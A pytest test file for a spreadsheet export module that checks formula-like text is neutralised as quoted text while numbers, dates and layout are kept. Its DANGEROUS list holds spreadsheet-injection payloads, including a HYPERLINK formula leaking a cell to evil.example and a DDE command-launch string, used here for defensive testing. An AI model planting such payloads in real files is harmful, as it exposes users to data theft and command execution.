"""The one xlsx renderer: formula-like text stays text, numbers stay numbers, a readable layout."""

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gonghui.core.spreadsheets import (
    is_formula_like,
    read_rows,
    render_template_xlsx,
    render_xlsx,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=1+1",
    "+86 138",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "＝１＋１",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets[0]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_is_written_as_quoted_text(text):
    ws = _sheet(render_xlsx(title="t", headers=["值"], rows=[[text]]))
    cell = ws["A2"]
    assert cell.data_type == "s"
    assert cell.value == text  # exact characters kept, so an export re-imports unchanged
    assert cell.quotePrefix is True


def test_no_formula_anywhere_in_the_file():
    content = render_xlsx(title="t", headers=["值"], rows=[[t] for t in DANGEROUS], notes=["=1"])
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_genuine_numbers_stay_numeric_and_plain_text_is_untouched():
    rows = [[-5, -2.5, Decimal("-1370.50"), 0, "张三", "工会-活动"]]
    ws = _sheet(render_xlsx(title="t", headers=list("ABCDEF"), rows=rows))
    values = [c.value for c in ws[2]]
    assert values == [-5, -2.5, -1370.5, 0, "张三", "工会-活动"]
    assert [c.data_type for c in ws[2]] == ["n", "n", "n", "n", "s", "s"]
    assert not ws["E2"].quotePrefix and not ws["F2"].quotePrefix


def test_detection_rule():
    assert all(is_formula_like(t) for t in DANGEROUS)
    assert not any(is_formula_like(t) for t in ["", "张三", "2020-01-01", "a=b", "工会－活动"])


def test_header_is_bold_frozen_and_widths_follow_content():
    rows = [["郑州宏达机械有限公司工会联合会委员会", 1, dt.date(2020, 6, 3)]]
    ws = _sheet(render_xlsx(title="t", headers=["组织", "数", "日期"], rows=rows, notes=["说明"]))
    assert ws["A1"].value == "说明"
    assert [c.value for c in ws[2]] == ["组织", "数", "日期"]
    assert all(c.font.b for c in ws[2])
    assert ws.freeze_panes == "A3"
    wide, narrow = ws.column_dimensions["A"].width, ws.column_dimensions["B"].width
    assert wide >= 2 * len(rows[0][0]) and narrow < 10


def test_dates_datetimes_and_amounts_have_number_formats():
    aware = dt.datetime(2020, 5, 26, 7, 30, tzinfo=dt.UTC)
    rows = [[dt.date(2020, 6, 3), aware, Decimal("5880.5")]]
    ws = _sheet(render_xlsx(title="t", headers=["日期", "时间", "金额"], rows=rows))
    date, moment, amount = ws[2]
    assert date.number_format == "yyyy-mm-dd" and date.value == dt.datetime(2020, 6, 3)
    # Shown in the project's time zone (Asia/Shanghai), without a zone.
    assert moment.number_format == "yyyy-mm-dd hh:mm"
    assert moment.value == dt.datetime(2020, 5, 26, 15, 30)
    assert amount.number_format == "#,##0.00" and amount.value == 5880.5


def test_export_round_trips_through_the_importer():
    headers = ["姓名", "备注"]
    content = render_xlsx(title="t", headers=headers, rows=[["=张三", "-负数说明"]])
    rows = read_rows(io.BytesIO(content), headers=headers)
    assert rows[0]["姓名"] == "=张三" and rows[0]["备注"] == "-负数说明"


def test_template_example_is_neutralised_and_header_frozen():
    content = render_template_xlsx(title="t", headers=["值"], example=["=1+1"], help_rows=["@x"])
    wb = load_workbook(io.BytesIO(content))
    ws = wb.worksheets[0]
    assert ws.freeze_panes == "A2" and ws["A1"].font.b
    assert ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert wb["填写说明"]["A1"].data_type == "s"


def test_every_workbook_is_written_by_the_one_renderer():
    """No product module builds a workbook itself: each export goes through core.spreadsheets."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if "/tests/" in rel or "/migrations/" in rel or rel == "core/spreadsheets.py":
            continue
        if path.name in ("testing.py", "conftest.py", "bench.py"):
            # Test and benchmark support builds sample uploads (as Excel writes them).
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"^\s*(from|import) openpyxl|Workbook\(|xlsxwriter", text, re.M):
            offenders.append(rel)
    assert offenders == []


def test_a_list_longer_than_a_sheet_continues_on_the_next_under_the_same_header(monkeypatch):
    from gonghui.core import spreadsheets

    monkeypatch.setattr(spreadsheets, "MAX_SHEET_ROWS", 4)
    content = render_xlsx(
        title="人员/名单", headers=["号"], rows=([i] for i in range(7)), notes=["注"]
    )
    wb = load_workbook(io.BytesIO(content))
    assert wb.sheetnames == ["人员_名单", "人员_名单(2)", "人员_名单(3)"]
    values = [[c.value for c in row] for ws in wb.worksheets for row in ws.iter_rows()]
    assert values == [["注"], ["号"], [0], [1], ["号"], [0 + 2], [3], [4], ["号"], [5], [6]]
    assert [ws.freeze_panes for ws in wb.worksheets] == ["A3", "A2", "A2"]


def test_text_the_file_format_cannot_carry_is_dropped_not_fatal():
    rows = [["a\x00b\x1fc", "  两端空格  ", "<b>&amp;</b>", "行一\r\n行二"]]
    ws = _sheet(render_xlsx(title="t", headers=list("ABCD"), rows=rows))
    assert [c.value for c in ws[2]] == ["abc", "  两端空格  ", "<b>&amp;</b>", "行一\r\n行二"]


def test_formula_like_header_and_note_keep_their_look_and_the_quote_prefix():
    ws = _sheet(render_xlsx(title="t", headers=["=A"], rows=[], notes=["+B"]))
    assert ws["A1"].quotePrefix and ws["A1"].font.i
    assert ws["A2"].quotePrefix and ws["A2"].font.b
